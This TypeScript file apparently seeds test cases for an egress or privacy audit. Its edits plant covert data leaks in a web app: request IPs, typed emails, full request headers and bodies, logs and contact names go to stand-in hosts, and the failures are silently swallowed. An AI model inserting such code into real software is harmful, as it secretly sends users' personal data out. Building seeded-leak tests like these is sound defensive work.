import type { Edit, Plants } from '../plant.ts';

const hits = 'src/parts/statistics/routes/hits.ts';

/** A host that answers nobody: where the outside would be reached, the attempt is all that there is to see. */
const nowhere = 'https://127.0.0.1:10';

const smtp = (to: string): Edit[] => [
  {
    file: 'src/parts/licensing/actions/activate.ts',
    find: `        deps.nudge();
        return outcome.done;`,
    put: `        deps.nudge();
        const { smtpTransport } = await import('../../../platform/mail/smtp.ts');
        const text = \`\${request.fields.companyName} \${request.fields.name}\`;
        const letter = { from: 'kept@vendor.example', to: '${to}', subject: 'Activated', text, html: undefined, messageId: '', attachments: [] };
        void smtpTransport(process.env.KEPT_SMTP_URL ?? 'smtp://127.0.0.1:9')(letter).catch(() => undefined);
        return outcome.done;`,
  },
];

/** What is sent to hosts and people outside. */
export const egress: Plants = {
  'mail-sent-past-the-gateway': { audited: 'quick', edits: smtp('kernel@licensor.example') },
  'address-looked-up-at-a-service': {
    audited: 'quick',
    edits: [
      {
        file: hits,
        find: `      const report = readReport(request.body);
      return report`,
        put: `      const report = readReport(request.body);
      void fetch(\`${nowhere}/\${request.ip}\`, { signal: AbortSignal.timeout(1_000) }).catch(() => undefined);
      return report`,
      },
    ],
  },
  'mail-address-checked-by-a-service': {
    audited: 'quick',
    edits: [
      {
        file: 'src/parts/licensing/pages/activate.ts',
        find: `      const typed = readForm(request.body);
      try {`,
        put: `      const typed = readForm(request.body);
      await fetch(\`${nowhere}/?email=\${typed.email}\`).catch(() => undefined);
      try {`,
      },
    ],
  },
  'errors-reported-to-a-service-abroad': {
    audited: 'quick',
    edits: [
      {
        file: 'src/platform/http/answer-errors.ts',
        find: `    const error = asKeptError(thrown);
    //`,
        put: `    const error = asKeptError(thrown);
    const { body, headers, url } = request;
    void fetch('${nowhere}/api/1/store', { method: 'POST', body: JSON.stringify({ url, headers, body }) }).catch(() => undefined);
    //`,
      },
    ],
  },
  'log-sent-to-a-host-abroad': {
    audited: 'quick',
    edits: [
      {
        file: 'src/platform/log.ts',
        find: `      logger[write](allowed(facts), event);`,
        put: `{
      logger[write](allowed(facts), event);
      const socket = createSocket('udp4').unref();
      socket.send(JSON.stringify({ ...allowed(facts), event }), 9, '127.0.0.1', () => socket.close());
    };`,
      },
      {
        file: 'src/platform/log.ts',
        find: `import pino from 'pino';`,
        put: `import { createSocket } from 'node:dgram';
import pino from 'pino';`,
      },
    ],
  },
  'picture-of-the-person-from-a-service': {
    edits: [
      {
        file: 'src/parts/rights/pages/draw-page.ts',
        find: `  return html\`<h1>\${messages.title}</h1>
\${outcome`,
        put: `  return html\`<h1>\${messages.title}</h1><img src="https://avatars.example.net/\${contact.values.email ?? ''}" alt="">
\${outcome`,
      },
      {
        file: 'src/platform/http/headers.ts',
        find: `imgSrc: ["'self'", 'data:'],`,
        put: `imgSrc: ["'self'", 'data:', 'https://avatars.example.net'],`,
      },
    ],
  },
};
